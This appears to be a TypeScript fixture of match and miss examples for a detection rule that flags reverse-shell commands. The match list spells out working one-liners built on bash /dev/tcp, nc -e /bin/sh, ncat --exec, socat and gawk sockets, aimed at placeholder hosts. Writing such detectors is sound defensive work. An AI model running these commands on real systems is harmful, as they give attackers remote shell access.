import type { RiskExamples } from '../risk-rule';

export const reverseShellExamples: RiskExamples = {
  matches: [
    'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
    'exec 3< /dev/tcp/10.0.0.1/80',
    'cat < /dev/tcp/10.0.0.1/80',
    'echo x > /dev/udp/10.0.0.1/80',
    'nc -e /bin/sh 10.0.0.1 4242',
    'nc 10.0.0.1 4242',
    'nc -l 4242',
    'ncat --exec sh h 1',
    'socat TCP:h:1 EXEC:sh',
    'telnet h 4444',
    'gawk \'BEGIN { s = "/inet/tcp/0/h/1"; print | s }\'',
    'cat f | openssl s_client -connect h:1',
    'exec 3<> /dev/tcp/h/1',
    'ncat h 1 --exec /bin/bash',
  ],
  misses: [
    'nc -z localhost 80',
    'nc -h',
    'curl http://x',
    'echo nc -e sh h 1',
    'ls /dev/tcp',
    'openssl s_client -connect h:1',
    'openssl version',
  ],
};
